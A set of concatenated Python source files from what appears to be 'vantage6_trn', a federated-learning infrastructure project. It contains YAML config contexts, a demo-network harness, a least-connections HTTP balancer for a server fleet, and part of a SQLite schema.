Reference counterpart: ``vantage6-common/vantage6/common/`` (SURVEY.md §2.1).
"""
