"""Runtime config contexts loaded from YAML.

Reference counterpart: ``vantage6-common/vantage6/common/context.py`` +
``configuration/`` (``AppContext``, ``ServerContext``, ``NodeContext`` —
SURVEY.md §2.1, §5.6; UNVERIFIED). The user-visible YAML keys follow the
survey's node-config key list; a new ``runtime:`` section carries trn
specifics (device topology, cores per task, compile cache).
"""

from __future__ import annotations

import logging
import os
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

log = logging.getLogger(__name__)

_DEFAULT_DATA_DIR = Path(
    os.environ.get("V6_TRN_DATA_DIR", os.path.expanduser("~/.vantage6-trn"))
)

DEFAULT_COMPILE_CACHE = "/tmp/neuron-compile-cache"


def enable_compile_cache(cache_dir: str | os.PathLike | None = None,
                         ) -> str | None:
    """Point both persistent compilation caches at ``cache_dir`` (default
    ``V6_COMPILE_CACHE`` env, then ``/tmp/neuron-compile-cache``):

    * the Neuron compiler's NEFF cache (``NEURON_COMPILE_CACHE_URL``) —
      left alone when the operator already pinned one;
    * jax's persistent compilation cache — round-1 compiles are written
      to disk, round-2 and every later *process* (node restarts, bench
      reruns) load the executable instead of recompiling. This is the
      1.3–3.4 s cold-compile tax every bench round 1 pays (ROADMAP §5).

    Idempotent and failure-tolerant: returns the directory in use, or
    None when it could not be enabled — a cold cache is a perf bug, not
    a liveness bug, so the caller keeps starting up either way.
    """
    cache_dir = str(
        cache_dir or os.environ.get("V6_COMPILE_CACHE")
        or DEFAULT_COMPILE_CACHE
    )
    try:
        Path(cache_dir).mkdir(parents=True, exist_ok=True)
    except OSError as e:
        log.warning("compile cache dir %s unusable (%s); compiles stay "
                    "cold", cache_dir, e)
        return None
    os.environ.setdefault("NEURON_COMPILE_CACHE_URL", cache_dir)
    try:
        import jax

        jax.config.update("jax_compilation_cache_dir", cache_dir)
        # cache every program: the default min-compile-time skips the
        # small programs, but a fleet node replays the same small
        # programs every round — disk is cheaper than recompiles
        jax.config.update("jax_persistent_cache_min_compile_time_secs",
                          0.0)
        try:
            jax.config.update("jax_persistent_cache_min_entry_size_bytes",
                              0)
        except (AttributeError, ValueError):  # older jax: flag absent
            pass
    except Exception as e:  # jax missing/too old — node still starts
        log.warning("jax persistent compile cache not enabled (%s)", e)
        return None
    return cache_dir


def _interpolate_env(value: Any) -> Any:
    """``${VAR}`` env-var interpolation inside string config values."""
    if isinstance(value, str) and "${" in value:
        return os.path.expandvars(value)
    if isinstance(value, dict):
        return {k: _interpolate_env(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_interpolate_env(v) for v in value]
    return value


@dataclass
class AppContext:
    """Shared context: instance name + config dict + data/log dirs."""

    name: str
    config: dict = field(default_factory=dict)
    data_dir: Path = _DEFAULT_DATA_DIR

    @classmethod
    def from_yaml(cls, path: str | Path, **kw) -> "AppContext":
        with open(path) as fh:
            cfg = _interpolate_env(yaml.safe_load(fh) or {})
        name = cfg.get("name", Path(path).stem)
        return cls(name=name, config=cfg, **kw)

    @property
    def instance_dir(self) -> Path:
        d = self.data_dir / self.kind / self.name
        d.mkdir(parents=True, exist_ok=True)
        return d

    @property
    def log_dir(self) -> Path:
        d = self.instance_dir / "log"
        d.mkdir(parents=True, exist_ok=True)
        return d

    kind = "app"

    def get(self, key: str, default: Any = None) -> Any:
        cur: Any = self.config
        for part in key.split("."):
            if not isinstance(cur, dict) or part not in cur:
                return default
            cur = cur[part]
        return cur


@dataclass
class ServerContext(AppContext):
    kind = "server"

    @property
    def port(self) -> int:
        return int(self.get("port", 5000))

    @property
    def api_path(self) -> str:
        return self.get("api_path", "/api")

    @property
    def jwt_secret(self) -> str:
        return self.get("jwt_secret_key") or "dev-secret-change-me"

    @property
    def db_uri(self) -> str:
        return self.get("uri", str(self.instance_dir / f"{self.name}.sqlite"))


@dataclass
class StoreContext(AppContext):
    """Algorithm-store service config (reference: the standalone
    ``vantage6-algorithm-store`` Flask app's own config file)."""

    kind = "store"

    @property
    def port(self) -> int:
        return int(self.get("port", 7602))

    @property
    def db_uri(self) -> str:
        return self.get("uri", str(self.instance_dir / f"{self.name}.sqlite"))


@dataclass
class NodeContext(AppContext):
    kind = "node"

    @property
    def server_url(self) -> str:
        url = self.get("server_url", "http://localhost")
        port = self.get("port", 5000)
        api_path = self.get("api_path", "/api")
        if url.rstrip("/").endswith(api_path.strip("/")):
            return url
        return f"{url.rstrip('/')}:{port}{api_path}"

    @property
    def api_key(self) -> str:
        return self.get("api_key", "")

    @property
    def databases(self) -> list[dict]:
        """[{label, uri, type}] — data sources this node serves."""
        return self.get("databases", []) or []

    @property
    def encryption_enabled(self) -> bool:
        return bool(self.get("encryption.enabled", False))

    @property
    def private_key_path(self) -> str | None:
        return self.get("encryption.private_key")

    @property
    def allowed_algorithms(self) -> list[str] | None:
        return self.get("policies.allowed_algorithms")

    # --- trn runtime section (new, no reference counterpart) -------------
    @property
    def runtime_platform(self) -> str:
        """'neuron' | 'cpu' — which jax backend the node runtime targets."""
        return self.get("runtime.platform", "cpu")

    @property
    def runtime_cores_per_task(self) -> int:
        return int(self.get("runtime.cores_per_task", 1))

    @property
    def compile_cache_dir(self) -> str:
        return self.get("runtime.compile_cache", DEFAULT_COMPILE_CACHE)

    def enable_compile_cache(self) -> str | None:
        """Arm the persistent compile caches at this node's configured
        directory (see module-level ``enable_compile_cache``)."""
        return enable_compile_cache(self.compile_cache_dir)
