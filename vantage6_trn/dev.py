"""Demo network: 1 server + N nodes on one host, programmatically.

Reference counterpart: ``v6 dev create-demo-network`` (SURVEY.md §4 —
"the de-facto integration harness"). Materializes the whole federation
in-process (threads, loopback HTTP): used by the e2e tests, the CLI
``v6-trn dev`` command, and ``bench.py``.
"""

from __future__ import annotations

import logging
from dataclasses import dataclass, field
from typing import Sequence

from vantage6_trn.algorithm.table import Table
from vantage6_trn.client import UserClient
from vantage6_trn.common.encryption import RSACryptor
from vantage6_trn.node.daemon import Node
from vantage6_trn.server import ServerApp

log = logging.getLogger(__name__)

ROOT_PASSWORD = "demo-root-password"


@dataclass
class DemoNetwork:
    """One collaboration, one org+node per dataset entry."""

    datasets: Sequence[Sequence[Table]]
    encrypted: bool = False
    key_bits: int = 2048           # demo keys; prod default is 4096
    max_workers: int | None = None  # None → derive from core inventory
    extra_images: dict = None      # image → module, forwarded to nodes
    pin_devices: bool = False      # node i → core i%N (co-hosted nodes
    #                                run concurrently on a shared chip)
    server_kwargs: dict = None     # extra ServerApp(...) kwargs (chaos
    #                                tests tune lease_ttl etc.)
    node_kwargs: dict = None       # extra Node(...) kwargs (heartbeat_s)
    server: ServerApp = field(init=False, default=None)
    nodes: list[Node] = field(init=False, default_factory=list)
    org_ids: list[int] = field(init=False, default_factory=list)
    collaboration_id: int = field(init=False, default=None)
    base_url: str = field(init=False, default=None)

    def start(self) -> "DemoNetwork":
        self.server = ServerApp(root_password=ROOT_PASSWORD,
                                **(self.server_kwargs or {}))
        port = self.server.start()
        self.base_url = f"http://127.0.0.1:{port}/api"

        root = UserClient(f"http://127.0.0.1:{port}")
        root.authenticate("root", ROOT_PASSWORD)
        for i in range(len(self.datasets)):
            org = root.organization.create(name=f"org-{i}")
            self.org_ids.append(org["id"])
        collab = root.collaboration.create(
            "demo", self.org_ids, encrypted=self.encrypted
        )
        self.collaboration_id = collab["id"]

        for i, (oid, tables) in enumerate(zip(self.org_ids, self.datasets)):
            reg = root.node.create(self.collaboration_id, organization_id=oid,
                                   name=f"node-{i}")
            key = (RSACryptor(key_bits=self.key_bits).private_key_pem
                   if self.encrypted else None)
            device_index = None
            if self.pin_devices:
                import jax

                device_index = i % max(1, len(jax.devices()))
            node = Node(
                server_url=self.base_url,
                api_key=reg["api_key"],
                databases=list(tables),
                private_key_pem=key,
                extra_images=self.extra_images,
                max_workers=self.max_workers,
                name=f"node-{i}",
                device_index=device_index,
                **(self.node_kwargs or {}),
            )
            node.start()
            self.nodes.append(node)
        self._root = root
        return self

    def stop(self) -> None:
        for n in self.nodes:
            n.stop()
        if self.server:
            self.server.stop()

    # --- conveniences ---------------------------------------------------
    def researcher(self, org_index: int = 0) -> UserClient:
        """A Researcher user at org `org_index`, encryption wired up."""
        username = f"researcher-{org_index}"
        try:
            self._root.user.create(
                username, "pw", organization_id=self.org_ids[org_index],
                roles=["Researcher"],
            )
        except RuntimeError:
            pass  # already exists
        c = UserClient(self.base_url.rsplit("/api", 1)[0])
        c.authenticate(username, "pw")
        if self.encrypted:
            # researcher shares the org's key with its node (reference
            # model: one private key per organization)
            c.cryptor = self.nodes[org_index].cryptor
        return c

    def root_client(self) -> UserClient:
        return self._root


def start_demo_store(net: DemoNetwork, admin_token: str | None = None):
    """Full-stack demo add-on: an algorithm store with every builtin
    image pre-approved, linked on the server, whitelisting the demo
    server for vouched identities. Returns (StoreApp, url, admin_token)
    — caller owns the StoreApp lifecycle."""
    import secrets

    from vantage6_trn.client.store import AlgorithmStoreClient
    from vantage6_trn.node.runtime import BUILTIN_IMAGES
    from vantage6_trn.store import StoreApp

    import importlib

    from vantage6_trn.algorithm.decorators import describe_functions

    admin_token = admin_token or secrets.token_urlsafe(16)
    server_origin = net.base_url.rsplit("/api", 1)[0]
    store = StoreApp(admin_token=admin_token, min_reviews=1,
                     allowed_servers=[server_origin])
    store_url = f"http://127.0.0.1:{store.start()}/api"
    try:
        sc = AlgorithmStoreClient(store_url, admin_token=admin_token)
        for image, module_path in BUILTIN_IMAGES.items():
            # real function metadata via introspection — the UI task
            # wizard builds its method/argument forms from this
            functions = describe_functions(
                importlib.import_module(module_path))
            algo = sc.algorithm.submit(image.split("//")[-1], image,
                                       functions=functions)
            sc.algorithm.review(algo["id"], "approved")
        net.root_client().store.create("demo-store", store_url)
    except BaseException:
        store.stop()  # don't leak the bound port/thread on failure
        raise
    return store, store_url, admin_token
