"""vantage6_trn — a Trainium2-native federated-learning infrastructure.

Ground-up rebuild of the capabilities of vantage6 (vantage6/vantage6
monorepo, formerly IKNL/VANTAGE6): a central server (REST API + event
broker, collaboration/organization/permission model, end-to-end
RSA-encrypted task payloads) brokering tasks to per-organization node
daemons — but the per-node algorithm runtime is a persistent process
executing jax programs compiled by neuronx-cc on trn2 NeuronCores
instead of Docker-wrapped CPU Python, server-side aggregation is done
with BASS/NKI reduction kernels, and multi-chip nodes shard local
batches across NeuronCores via jax.sharding meshes.

Layer map (mirrors SURVEY.md §1):
    common/     L0  — crypto, serialization, enums, config contexts, JWT
    server/     L2  — central REST API + event broker + sqlite model
    store/      L2b — algorithm store (registry + review workflow)
    node/       L3  — node daemon + persistent trn algorithm runtime
    algorithm/  L4  — algorithm tools (decorators, clients, mock client)
    client/     L5  — UserClient (researcher-facing)
    cli/        L5  — `v6`-style command line
    models/     NEW — jax model zoo (logreg, MLP, GLM, Cox, DP-SGD, LoRA)
    ops/        NEW — aggregation ops (jax + BASS kernels)
    parallel/   NEW — device-mesh sharding / collectives helpers
"""

__version__ = "0.1.0"
