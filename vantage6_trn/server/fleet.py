"""Server fleet: N stateless workers behind an in-repo front balancer.

Scale-out story (docs/ARCHITECTURE.md "Fleet topology"): one shared
store (``server/storage.py``), N identical ``ServerApp`` workers that
keep **no** authoritative state outside it, and a small HTTP reverse
proxy in front. Because every worker is stateless, the balancer needs
no session affinity: any request can land on any worker, cross-worker
event delivery rides the shared event table (server/events.py), and
singleton housekeeping (sweeper/reaper) is elected per-tick through a
``worker_lease`` row (server/app.py). vantage6 upstream reaches the
same shape with uWSGI workers + RabbitMQ (SURVEY.md §5.3); here the
broker role is folded into the store so the fleet has one moving part.

Two deployment modes, same balancer:

* :class:`Fleet` — N workers as threads of one process sharing a
  file-backed SQLite store. Zero-setup; used by tests and the chaos
  suite (a worker can be killed abruptly mid-round).
* :class:`ProcessFleet` — N workers as separate OS processes
  (``multiprocessing`` spawn), each with its own connections onto the
  shared store. Used by the bench harness; mirrors how real
  deployments run one worker per core behind nginx/haproxy.

The balancer is deliberately small — least-connections pick, passive
health (a connect failure benches the backend for a cooldown), bounded
failover — because its correctness burden is carried elsewhere: a
worker dying mid-request surfaces as a 502/reset, which clients heal
through ``common/resilience.RetryPolicy`` and the server-side
idempotency-key table, and task claims are attempt-fenced so a replayed
claim cannot double-execute. WebSocket upgrades are refused (501) so
nodes fall back to the long-poll channel, which proxies fine.
"""

from __future__ import annotations

import http.client
import json
import logging
import multiprocessing
import socket
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from vantage6_trn.server.app import ServerApp

log = logging.getLogger(__name__)

#: headers that describe one TCP hop, not the end-to-end exchange
#: (RFC 9110 §7.6.1) — forwarding them would let an upstream
#: ``Connection: close`` tear down the *client's* keep-alive socket
_HOP_BY_HOP = frozenset({
    "connection", "keep-alive", "proxy-authenticate",
    "proxy-authorization", "te", "trailers", "transfer-encoding",
    "upgrade",
})

#: how long a backend stays out of rotation after a connect failure
DEFAULT_COOLDOWN_S = 2.0

#: upstream read timeout — must exceed the longest server-side
#: long-poll hold (55 s for the node event channel) or the balancer
#: would sever healthy parked polls
DEFAULT_UPSTREAM_TIMEOUT_S = 90.0


class _Backend:
    __slots__ = ("addr", "host", "port", "inflight", "down_until", "served")

    def __init__(self, addr: str) -> None:
        self.addr = addr
        host, _, port = addr.rpartition(":")
        self.host, self.port = host, int(port)
        self.inflight = 0     # in-flight proxied requests (LC metric)
        self.down_until = 0.0  # monotonic; passive health
        self.served = 0       # completed responses (test/bench visibility)


class Balancer:
    """Least-connections HTTP reverse proxy over a set of worker
    addresses. Backends can be added/removed live; a backend that
    refuses connections is benched for ``cooldown_s`` and the request
    fails over to a sibling (bounded to one try per backend)."""

    def __init__(self, backends: list[str] | tuple[str, ...] = (),
                 cooldown_s: float = DEFAULT_COOLDOWN_S,
                 upstream_timeout_s: float = DEFAULT_UPSTREAM_TIMEOUT_S):
        self._lock = threading.Lock()
        self._backends: list[_Backend] = [_Backend(a) for a in backends]
        self._rr = 0  # round-robin tiebreak among equally-loaded backends
        self.cooldown_s = cooldown_s
        self.upstream_timeout_s = upstream_timeout_s
        self.port: int | None = None
        self._server: ThreadingHTTPServer | None = None
        self._thread: threading.Thread | None = None

    # --- backend set ----------------------------------------------------
    def add_backend(self, addr: str) -> None:
        with self._lock:
            if not any(b.addr == addr for b in self._backends):
                self._backends.append(_Backend(addr))

    def remove_backend(self, addr: str) -> None:
        with self._lock:
            self._backends = [b for b in self._backends if b.addr != addr]

    def backends(self) -> list[dict]:
        """Snapshot for tests/ops: addr, inflight, served, healthy."""
        now = time.monotonic()
        with self._lock:
            return [
                {"addr": b.addr, "inflight": b.inflight, "served": b.served,
                 "healthy": b.down_until <= now}
                for b in self._backends
            ]

    def _pick(self, exclude: set[str]) -> _Backend | None:
        """Least-connections among healthy backends; falls back to
        benched ones (better a retried connect than a 503) before
        giving up entirely."""
        now = time.monotonic()
        with self._lock:
            avail = [b for b in self._backends if b.addr not in exclude]
            healthy = [b for b in avail if b.down_until <= now]
            pool = healthy or avail
            if not pool:
                return None
            best = min(pool, key=lambda b: b.inflight)
            ties = [b for b in pool if b.inflight == best.inflight]
            self._rr += 1
            chosen = ties[self._rr % len(ties)]
            chosen.inflight += 1
            return chosen

    def _release(self, backend: _Backend, ok: bool) -> None:
        with self._lock:
            backend.inflight = max(0, backend.inflight - 1)
            if ok:
                backend.served += 1

    def _bench(self, backend: _Backend) -> None:
        with self._lock:
            backend.down_until = time.monotonic() + self.cooldown_s

    # --- lifecycle ------------------------------------------------------
    def start(self, host: str = "127.0.0.1", port: int = 0) -> int:
        class _Server(ThreadingHTTPServer):
            request_queue_size = 256
            daemon_threads = True

        self._server = _Server((host, port), _make_proxy_handler(self))
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.1},
            daemon=True, name="v6trn-balancer",
        )
        self._thread.start()
        self.port = self._server.server_address[1]
        log.info("balancer listening on %s:%s (%d backends)",
                 host, self.port, len(self.backends()))
        return self.port

    def stop(self) -> None:
        if self._server:
            self._server.shutdown()
            self._server.server_close()
            self._server = None
        if self._thread:
            self._thread.join(timeout=5.0)
            self._thread = None


def _make_proxy_handler(balancer: Balancer):
    class ProxyHandler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, fmt, *args):  # stdlib logs to stderr
            log.debug("%s %s", self.address_string(), fmt % args)

        def _refuse_websocket(self) -> None:
            # nodes probe ws first and fall back to long-poll on refusal
            # (node/daemon.py); proxying an upgrade would require the
            # balancer to splice raw sockets for the connection lifetime
            body = json.dumps({
                "msg": "websocket upgrade not supported through the "
                       "fleet balancer; use the long-poll event channel"
            }).encode("utf-8")
            self.send_response(501)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def _handle(self):
            if "websocket" in (self.headers.get("Upgrade") or "").lower():
                self._refuse_websocket()
                return
            try:
                length = int(self.headers.get("Content-Length") or 0)
            except ValueError:
                self.send_error(400, "bad Content-Length")
                return
            body = self.rfile.read(length) if length > 0 else b""

            # one attempt per distinct backend, then give up: a request
            # must not loop on a fleet that is entirely down
            tried: set[str] = set()
            while True:
                backend = balancer._pick(tried)
                if backend is None:
                    self._send_json(503, {"msg": "no fleet worker "
                                                 "available"})
                    return
                tried.add(backend.addr)
                verdict = self._forward(backend, body)
                if verdict == "done":
                    return
                if verdict == "dead":
                    # bytes already went to the client; nothing sane
                    # can follow on this connection
                    self.close_connection = True
                    return
                # verdict == "retry": failover to the next backend

        def _forward(self, backend: _Backend, body: bytes) -> str:
            """Proxy one request to one backend. Returns ``done`` (a
            complete response was relayed — including upstream errors),
            ``retry`` (nothing reached the client and the request is
            safe to replay elsewhere), or ``dead`` (the client response
            is unsalvageable mid-stream)."""
            conn = http.client.HTTPConnection(
                backend.host, backend.port,
                timeout=balancer.upstream_timeout_s,
            )
            try:
                try:
                    conn.connect()
                except OSError:
                    # nothing was sent anywhere: bench + failover
                    balancer._bench(backend)
                    balancer._release(backend, ok=False)
                    return "retry"
                headers = {
                    k: v for k, v in self.headers.items()
                    if k.lower() not in _HOP_BY_HOP
                }
                headers["Connection"] = "close"
                try:
                    conn.request(self.command, self.path,
                                 body=body or None, headers=headers)
                    resp = conn.getresponse()
                    payload = resp.read()
                except (OSError, http.client.HTTPException):
                    balancer._bench(backend)
                    balancer._release(backend, ok=False)
                    # the worker died with the request possibly applied.
                    # Replaying is only safe when the request is
                    # idempotent by nature (GET/HEAD/OPTIONS); everything
                    # else gets a 502, which RetryPolicy clients replay
                    # themselves under their Idempotency-Key
                    if self.command in ("GET", "HEAD", "OPTIONS"):
                        return "retry"
                    self._send_json(502, {"msg": "fleet worker failed "
                                                 "mid-request"})
                    return "done"
                try:
                    self.send_response_only(resp.status)
                    for k, v in resp.getheaders():
                        if k.lower() not in _HOP_BY_HOP:
                            self.send_header(k, v)
                    if resp.getheader("Content-Length") is None:
                        self.send_header("Content-Length",
                                         str(len(payload)))
                    self.end_headers()
                    if payload:
                        self.wfile.write(payload)
                except OSError:
                    balancer._release(backend, ok=False)
                    return "dead"  # client went away mid-response
                balancer._release(backend, ok=True)
                return "done"
            finally:
                conn.close()

        def _send_json(self, status: int, payload: dict) -> None:
            blob = json.dumps(payload).encode("utf-8")
            try:
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(blob)))
                self.end_headers()
                self.wfile.write(blob)
            except OSError:
                self.close_connection = True

        do_GET = do_POST = do_PATCH = do_PUT = do_DELETE = _handle
        do_OPTIONS = do_HEAD = _handle

    return ProxyHandler


class Fleet:
    """Thread-mode fleet: N ``ServerApp`` workers in this process over
    one shared file-backed store, fronted by a :class:`Balancer`.

    The first worker boots (and, being first onto the store, runs the
    migration + root bootstrap inside its BEGIN IMMEDIATE critical
    section); siblings then attach to the already-seeded store. All
    workers share ``jwt_secret`` so a token minted by any worker
    verifies on every other — the balancer does not pin clients.
    """

    def __init__(self, db_path: str, n_workers: int = 3,
                 jwt_secret: str | None = None,
                 root_password: str | None = None,
                 **server_kwargs):
        import secrets

        self.db_path = db_path
        self.n_workers = n_workers
        self.jwt_secret = jwt_secret or secrets.token_hex(32)
        self.root_password = root_password
        self.server_kwargs = server_kwargs
        self.workers: list[ServerApp] = []
        self.worker_ports: list[int] = []
        self.balancer = Balancer()

    def start(self, host: str = "127.0.0.1") -> int:
        for i in range(self.n_workers):
            # stable per-slot worker id: a restarted fleet upserts over
            # its predecessor's metrics_snapshot rows instead of
            # double-counting dead incarnations in fleet scrapes
            kwargs = dict(self.server_kwargs)
            kwargs.setdefault("worker_id", f"w{i}")
            app = ServerApp(
                db_uri=self.db_path, jwt_secret=self.jwt_secret,
                # only the first boot can seed root; later workers see
                # the existing user row and skip the bootstrap entirely
                root_password=self.root_password,
                **kwargs,
            )
            port = app.start(host)
            self.workers.append(app)
            self.worker_ports.append(port)
            self.balancer.add_backend(f"{host}:{port}")
        return self.balancer.start(host)

    def kill_worker(self, index: int, *, drain: bool = False) -> None:
        """Abruptly kill one worker: in-flight requests die mid-socket
        and its long-polls drop — the chaos path. With ``drain`` the
        backend is pulled from rotation first (a rolling restart); without
        it the balancer discovers the corpse by connect failure, which is
        what the failover tests exercise. The worker's ``worker_lease``
        rows are deliberately left to expire so sweeper failover takes
        the leased path, not the clean-release path."""
        app = self.workers[index]
        host_port = f"127.0.0.1:{self.worker_ports[index]}"
        if drain:
            self.balancer.remove_backend(host_port)
        app._stop.set()
        app.relay.stop()
        app.events.close()
        app.http.stop()  # severs established connections mid-flight
        if app._reaper is not None:
            app._reaper.join(timeout=5.0)
            app._reaper = None
        app.db.close()

    def stop(self) -> None:
        self.balancer.stop()
        for app in self.workers:
            try:
                app.stop()
            except Exception:  # a killed worker double-stops harmlessly
                log.debug("worker stop after kill", exc_info=True)
        self.workers.clear()
        self.worker_ports.clear()


def _worker_main(db_path: str, host: str, server_kwargs: dict,
                 port_queue) -> None:
    """Entry point of one fleet worker process (spawn-safe: module
    level, only picklable args). Reports its port back, then parks
    until the parent terminates it."""
    import os

    app = ServerApp(db_uri=db_path, **server_kwargs)
    port = app.start(host)
    port_queue.put((os.getpid(), port))
    threading.Event().wait()  # serve until SIGTERM


class ProcessFleet:
    """Process-mode fleet: N worker OS processes over one shared store.
    This is the deployment shape (one worker per core; docs/
    DEPLOYMENT.md) and what the bench harness measures. Workers are
    spawned (not forked): each re-imports the server fresh, exactly
    like N independently-launched ``python -m`` workers would."""

    def __init__(self, db_path: str, n_workers: int = 3,
                 jwt_secret: str | None = None,
                 root_password: str | None = None,
                 **server_kwargs):
        import secrets

        self.db_path = db_path
        self.n_workers = n_workers
        self.server_kwargs = dict(
            server_kwargs,
            jwt_secret=jwt_secret or secrets.token_hex(32),
            root_password=root_password,
        )
        self.processes: list[multiprocessing.process.BaseProcess] = []
        self.worker_ports: list[int] = []
        self.balancer = Balancer()

    def start(self, host: str = "127.0.0.1",
              boot_timeout_s: float = 120.0) -> int:
        ctx = multiprocessing.get_context("spawn")
        queue = ctx.Queue()
        for i in range(self.n_workers):
            # stable per-slot worker id (same rationale as Fleet.start)
            kwargs = dict(self.server_kwargs)
            kwargs.setdefault("worker_id", f"w{i}")
            proc = ctx.Process(
                target=_worker_main,
                args=(self.db_path, host, kwargs, queue),
                daemon=True,
            )
            proc.start()
            self.processes.append(proc)
        for _ in range(self.n_workers):
            _pid, port = queue.get(timeout=boot_timeout_s)
            self.worker_ports.append(port)
            self.balancer.add_backend(f"{host}:{port}")
        return self.balancer.start(host)

    def kill_worker(self, index: int) -> None:
        """SIGTERM one worker process — the hard-failure path (WAL
        recovers the store; the balancer fails over on connect errors)."""
        self.processes[index].terminate()

    def stop(self) -> None:
        self.balancer.stop()
        for proc in self.processes:
            if proc.is_alive():
                proc.terminate()
        for proc in self.processes:
            proc.join(timeout=10.0)
        self.processes.clear()
        self.worker_ports.clear()
