"""sqlite3 persistence layer.

Reference counterpart: ``vantage6-server/vantage6/server/model/base.py``
(``DatabaseSessionManager`` over SQLAlchemy — SURVEY.md §2.1). Here: a
thread-local sqlite3 connection pool + dict rows + schema DDL. The
domain schema mirrors the reference ORM (Organization, Collaboration,
Node, User, Role, Rule, Task, Run, Port, AlgorithmStore + assoc tables).
"""

from __future__ import annotations

import contextlib
import os
import re
import sqlite3
import threading
import time
import weakref
from typing import Any, Callable, Iterable, Iterator

from vantage6_trn.server.storage import Storage, StorageStats

SCHEMA = """
CREATE TABLE IF NOT EXISTS organization (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    name TEXT UNIQUE NOT NULL,
    address1 TEXT, address2 TEXT, zipcode TEXT, country TEXT, domain TEXT,
    public_key TEXT
);
CREATE TABLE IF NOT EXISTS collaboration (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    name TEXT UNIQUE NOT NULL,
    encrypted INTEGER NOT NULL DEFAULT 0
);
CREATE TABLE IF NOT EXISTS member (
    collaboration_id INTEGER NOT NULL REFERENCES collaboration(id),
    organization_id INTEGER NOT NULL REFERENCES organization(id),
    PRIMARY KEY (collaboration_id, organization_id)
);
CREATE TABLE IF NOT EXISTS node (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    name TEXT NOT NULL,
    api_key TEXT UNIQUE NOT NULL,
    organization_id INTEGER NOT NULL REFERENCES organization(id),
    collaboration_id INTEGER NOT NULL REFERENCES collaboration(id),
    status TEXT DEFAULT 'offline',
    last_seen REAL,
    UNIQUE (organization_id, collaboration_id)
);
CREATE TABLE IF NOT EXISTS user (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    username TEXT UNIQUE NOT NULL,
    password_hash TEXT NOT NULL,
    email TEXT, firstname TEXT, lastname TEXT,
    organization_id INTEGER REFERENCES organization(id),
    failed_logins INTEGER DEFAULT 0,
    last_login REAL,
    last_failed_login REAL,
    otp_secret TEXT,
    otp_enabled INTEGER DEFAULT 0
);
CREATE TABLE IF NOT EXISTS role (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    name TEXT NOT NULL,
    description TEXT,
    organization_id INTEGER REFERENCES organization(id)
);
CREATE TABLE IF NOT EXISTS rule (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    name TEXT NOT NULL,
    operation TEXT NOT NULL,
    scope TEXT NOT NULL,
    UNIQUE (name, operation, scope)
);
CREATE TABLE IF NOT EXISTS role_rule (
    role_id INTEGER NOT NULL REFERENCES role(id),
    rule_id INTEGER NOT NULL REFERENCES rule(id),
    PRIMARY KEY (role_id, rule_id)
);
CREATE TABLE IF NOT EXISTS user_role (
    user_id INTEGER NOT NULL REFERENCES user(id),
    role_id INTEGER NOT NULL REFERENCES role(id),
    PRIMARY KEY (user_id, role_id)
);
CREATE TABLE IF NOT EXISTS user_rule (
    user_id INTEGER NOT NULL REFERENCES user(id),
    rule_id INTEGER NOT NULL REFERENCES rule(id),
    PRIMARY KEY (user_id, rule_id)
);
CREATE TABLE IF NOT EXISTS task (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    name TEXT, description TEXT,
    image TEXT NOT NULL,
    collaboration_id INTEGER NOT NULL REFERENCES collaboration(id),
    init_org_id INTEGER REFERENCES organization(id),
    init_user_id INTEGER REFERENCES user(id),
    parent_id INTEGER REFERENCES task(id),
    job_id INTEGER,
    databases TEXT,                 -- JSON list of labels
    created_at REAL NOT NULL,
    killed_at REAL                  -- durable kill marker (survives outages)
);
CREATE TABLE IF NOT EXISTS event (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    name TEXT NOT NULL,
    data TEXT NOT NULL,             -- JSON payload
    rooms TEXT NOT NULL,            -- JSON list of room names
    created_at REAL NOT NULL,
    origin TEXT,                    -- relay: peer URL this arrived from
    origin_eid INTEGER              -- relay: its id at the origin
);
CREATE TABLE IF NOT EXISTS run (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    task_id INTEGER NOT NULL REFERENCES task(id),
    organization_id INTEGER NOT NULL REFERENCES organization(id),
    status TEXT NOT NULL DEFAULT 'pending',
    input BLOB,                     -- canonical payload blob for this org
    result BLOB,                    -- canonical result payload blob
    log TEXT,
    assigned_at REAL, started_at REAL, finished_at REAL,
    lease_expires_at REAL,          -- node must renew while run in flight
    retries INTEGER,                -- remaining requeue budget (NULL = server default)
    attempt INTEGER                 -- bumped on every sweeper requeue (NULL = 0)
);
CREATE TABLE IF NOT EXISTS port (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    run_id INTEGER NOT NULL REFERENCES run(id),
    port INTEGER NOT NULL,
    label TEXT,
    address TEXT,                   -- node-advertised peer address
    enc_key TEXT,                   -- run's ephemeral X25519 pubkey (b64)
    signature TEXT                  -- org RSA-PSS over the descriptor
);
CREATE TABLE IF NOT EXISTS study (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    name TEXT NOT NULL,
    collaboration_id INTEGER NOT NULL REFERENCES collaboration(id)
);
CREATE TABLE IF NOT EXISTS study_member (
    study_id INTEGER NOT NULL REFERENCES study(id),
    organization_id INTEGER NOT NULL REFERENCES organization(id),
    PRIMARY KEY (study_id, organization_id)
);
CREATE TABLE IF NOT EXISTS algorithm_store (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    name TEXT NOT NULL,
    url TEXT NOT NULL,
    collaboration_id INTEGER REFERENCES collaboration(id)
);
CREATE UNIQUE INDEX IF NOT EXISTS idx_role_name ON role(name);
CREATE INDEX IF NOT EXISTS idx_run_task ON run(task_id);
CREATE INDEX IF NOT EXISTS idx_run_org_status ON run(organization_id, status);
CREATE INDEX IF NOT EXISTS idx_task_collab ON task(collaboration_id);
CREATE INDEX IF NOT EXISTS idx_task_job ON task(job_id);
CREATE INDEX IF NOT EXISTS idx_member_org ON member(organization_id);
